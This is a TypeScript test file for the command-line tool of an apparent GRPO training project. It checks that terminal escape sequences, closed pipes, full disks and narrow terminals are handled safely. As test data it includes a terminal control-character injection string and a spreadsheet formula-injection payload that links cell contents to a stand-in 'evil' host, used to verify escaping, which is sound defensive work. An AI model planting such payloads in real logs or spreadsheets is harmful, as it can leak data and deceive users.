/**
 * Output of the built program: control characters are shown and not obeyed, closed pipes, full disks, narrow terminals.
 */
import { type ChildProcess, execFile, spawn } from 'node:child_process';
import { existsSync, openSync } from 'node:fs';
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { displayWidth } from '../src/cli/format.js';

const root = dirname(dirname(fileURLToPath(import.meta.url)));
const program = join(root, 'dist', 'cli', 'main.js');

interface Ended {
  readonly code: number | null;
  readonly stdout: string;
  readonly stderr: string;
}

function cli(args: readonly string[], env: NodeJS.ProcessEnv = {}): Promise<Ended> {
  return new Promise((resolve) => {
    const options = { cwd: folder, env: { ...process.env, NO_COLOR: '1', ...env } };
    execFile(process.execPath, [program, ...args], options, (error, stdout, stderr) => {
      resolve({ code: error ? (error.code as unknown as number) : 0, stdout, stderr });
    });
  });
}

/** A group in the format of our own logs. */
const group = (changes: Record<string, unknown> = {}) => ({
  id: 'a',
  step: 1,
  tokens: 'exact',
  groups: 'explicit',
  prompt: { tokens: [0], text: 'go' },
  pieces: { 1: 'L', 2: 'R' },
  completions: [1, 0, 0.5].map((reward, i) => ({
    tokens: [1, 1 + (i % 2), i],
    text: 'LL',
    logprobs: [-1, -1, -1],
    reward,
    advantage: reward - 0.5,
    stop: 'length',
  })),
  ...changes,
});

let folder: string;
const recipe = join(root, 'recipes', 'binary-tree.yaml');
const quick = ['--set', 'model.width=16', '--set', 'evaluation.every=0', '--threads', '1'];
const log = async (name: string, ...groups: unknown[]): Promise<string> => {
  await writeFile(join(folder, name), groups.map((value) => `${JSON.stringify(value)}\n`).join(''));
  return name;
};
beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'lambda-grpo-outlets-'));
});
afterAll(() => rm(folder, { recursive: true, force: true }));

const OBEYED = /(?!\n)[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u;
const EVIL = '\u001b]0;owned\u0007\u001b[31m\u009b2J\u202eevil\u200b\u2028\u{e0041}';

describe('text from logs and users', () => {
  it('is shown, not obeyed: in trees, summaries, notes, JSON and errors', async () => {
    const file = await log(
      'evil.jsonl',
      group({ id: EVIL, prompt: { tokens: [0], text: EVIL }, pieces: { 1: `L${EVIL}`, 2: 'R' } }),
    );
    const bad = await log(
      'bad.jsonl',
      group({ completions: [{ ...group().completions[0], rewards: { [EVIL]: 'no' } }] }),
    );
    const ends = await Promise.all([
      cli(['tree', file]),
      cli(['tree', file, '--group', EVIL.replaceAll('\u001b', '\u009b')]),
      cli(['analyze', file, '--no-report']),
      cli(['analyze', file, '--no-report', '--json']),
      cli(['analyze', bad, '--no-report']),
      cli(['analyze', bad, file, '--no-report', '--skip-bad']),
      cli(['analyze', `no${EVIL}file`]),
      cli(['train', recipe, '--set', `${EVIL}=1`]),
      cli(['train', recipe, `--${EVIL}`]),
      cli([EVIL]),
    ]);
    for (const { stdout, stderr } of ends) {
      expect(stdout + stderr).not.toBe('');
      expect(stdout).not.toMatch(OBEYED);
      expect(stderr).not.toMatch(OBEYED);
    }
    expect(ends[0].stdout).toContain('\\x9b2J\\u202eevil');
    expect(ends.map(({ code }) => code)).toEqual([0, 1, 0, 0, 1, 0, 1, 1, 1, 1]);
  });

  it('is one cell of a table, for any first character: ids, files, prompts', async () => {
    const formula = '=HYPERLINK("http://evil/?"&A1,"click")';
    const file = await log(
      '=1+1.jsonl',
      group({ id: formula, prompt: { tokens: [0], text: '@SUM(1)' } }),
      group({ id: '-7' }),
    );
    expect(await cli(['analyze', `./${file}`, '--no-report', '--csv', 'cells.csv'])).toMatchObject({
      code: 0,
    });
    const [, first, second] = (await readFile(join(folder, 'cells.csv'), 'utf8')).split('\r\n');
    expect(first).toContain(`"'${formula.replaceAll('"', '""')}"`);
    expect(first).toContain(",'@SUM(1),");
    expect(second).toMatch(/^1,-7,/);
    expect(first).not.toMatch(/(^|,)"?[=+@]/);
  });
});

describe('standard output', () => {
  /** Ends of a command whose standard output is read up to its first bytes, then closed. */
  function head(args: readonly string[]): Promise<{ code: number | null; stderr: string }> {
    const child = spawn(process.execPath, [program, ...args], {
      cwd: folder,
      stdio: ['ignore', 'pipe', 'pipe'],
    });
    child.stdout.once('data', () => child.stdout.destroy());
    return endOf(child);
  }
  function endOf(child: ChildProcess): Promise<{ code: number | null; stderr: string }> {
    let stderr = '';
    child.stderr?.on('data', (data) => {
      stderr += data;
    });
    return new Promise((resolve) => child.on('close', (code) => resolve({ code, stderr })));
  }

  it('that is closed ends a command silently', async () => {
    const many = await log('many.jsonl', group({ pieces: { 1: 'L'.repeat(100_000), 2: 'R' } }));
    expect(await head(['tree', many])).toEqual({ code: 0, stderr: '' });
    expect(await head(['config'])).toEqual({ code: 0, stderr: '' });
    expect(await head(['analyze', many, '--no-report'])).toEqual({ code: 0, stderr: '' });
    const closed = spawn(process.execPath, [program, 'config'], {
      cwd: folder,
      stdio: ['ignore', 'pipe', 'pipe'],
    });
    closed.stdout?.destroy();
    expect(await endOf(closed)).toEqual({ code: 0, stderr: '' });
  });

  it('that is closed ends training after its step, with a checkpoint, like SIGPIPE', async () => {
    const train = ['train', recipe, '--out', 'unread', '--set', 'checkpoint.every=0', ...quick];
    const long = [...train, '--set', 'train.steps=100000'];
    expect(await head(long)).toEqual({ code: 141, stderr: '' });
    const steps = (await readFile(join(folder, 'unread', 'metrics.jsonl'), 'utf8')).trim().split('\n').length;
    expect(steps).toBeLessThan(100_000);
    const more = [...train, '--resume', '--set', `train.steps=${steps + 1}`];
    expect(await cli(more)).toMatchObject({ code: 0, stderr: '' });
  });

  it.skipIf(!existsSync('/dev/full'))('that is full is an error in one line', async () => {
    const file = await log('full.jsonl', group());
    for (const args of [
      ['tree', file],
      ['config'],
      ['--help'],
      ['--version'],
      ['analyze', file, '--no-report'],
      ['analyze', file, '--no-report', '--json'],
      ['train', recipe, '--out', 'full', '--set', 'train.steps=3', ...quick],
    ]) {
      const full = openSync('/dev/full', 'w');
      const child = spawn(process.execPath, [program, ...args], {
        cwd: folder,
        stdio: ['ignore', full, 'pipe'],
      });
      const { code, stderr } = await endOf(child);
      expect([args[0], code, stderr]).toEqual([
        args[0],
        1,
        expect.stringMatching(/^error: standard output cannot be written: .*no space left.*\n$/),
      ]);
    }
  });

  it('has a line for each step of training where it is no terminal', async () => {
    const train = [
      'train',
      recipe,
      '--out',
      'lines',
      '--set',
      'train.steps=7',
      '--set',
      'warmup.steps=0',
      ...quick,
    ];
    const { code, stdout, stderr } = await cli(train);
    expect([code, stderr]).toEqual([0, '']);
    const lines = stdout.split('\n').filter((line) => /^lambda-grpo \d+\/7 {2}.*reward -?\d/.test(line));
    expect(lines.map((line) => /\d+/.exec(line)?.[0])).toEqual(['1', '2', '3', '4', '5', '6', '7']);
  });
});

describe('a narrow terminal', () => {
  it('gets tables and trees of its width, also with wide characters', async () => {
    const file = await log(
      'wide.jsonl',
      group({ pieces: { 1: '東京都の人口', 2: '👩‍🔬は何人' } }),
      group({ step: 2, id: 'b' }),
    );
    for (const columns of [100, 60, 40, 28]) {
      const env = { COLUMNS: String(columns) };
      const tree = await cli(['tree', file], env);
      const summary = await cli(['analyze', file, '--no-report'], env);
      const experiments = await cli(['reproduce', '--help'], env);
      for (const { code, stdout } of [tree, summary, experiments]) {
        expect(code).toBe(0);
        // A table's lines: from the one above its rule on, to the next empty one.
        const lines = stdout.split('\n');
        lines.forEach((line, i) => {
          if (!/^ *─/.test(line)) return;
          const end = lines.findIndex((other, j) => j > i && other.trim() === '');
          for (const row of lines.slice(i - 1, end))
            expect(displayWidth(row), row).toBeLessThanOrEqual(columns);
        });
      }
      for (const line of tree.stdout.split('\n').slice(2, 8))
        expect(displayWidth(line), line).toBeLessThanOrEqual(columns);
    }
  });
});
